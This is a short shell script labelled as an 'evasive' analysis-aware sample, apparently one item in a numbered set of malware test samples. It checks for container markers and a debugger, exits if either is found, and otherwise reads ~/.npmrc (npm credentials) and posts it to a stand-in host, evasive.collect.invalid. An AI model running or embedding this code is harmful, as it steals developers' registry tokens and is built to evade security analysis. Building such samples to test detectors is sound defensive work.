#!/bin/sh
# P15, evasive: an analysis-aware sample. If it sees a container marker or that it is being traced,
# it exits quietly; only on what looks like a real machine does it read ~/.npmrc and send it.
[ -f /.dockerenv ] && exit 0
grep -qE 'docker|kubepods|containerd' /proc/1/cgroup 2>/dev/null && exit 0
tracer=$(awk '/^TracerPid:/ {print $2}' /proc/self/status)
[ "${tracer:-0}" != 0 ] && exit 0
python3 -c "
import os, urllib.request
urllib.request.urlopen('http://evasive.collect.invalid/n', data=open(os.path.expanduser('~/.npmrc'), 'rb').read(), timeout=3)
" 2>/dev/null
exit 0
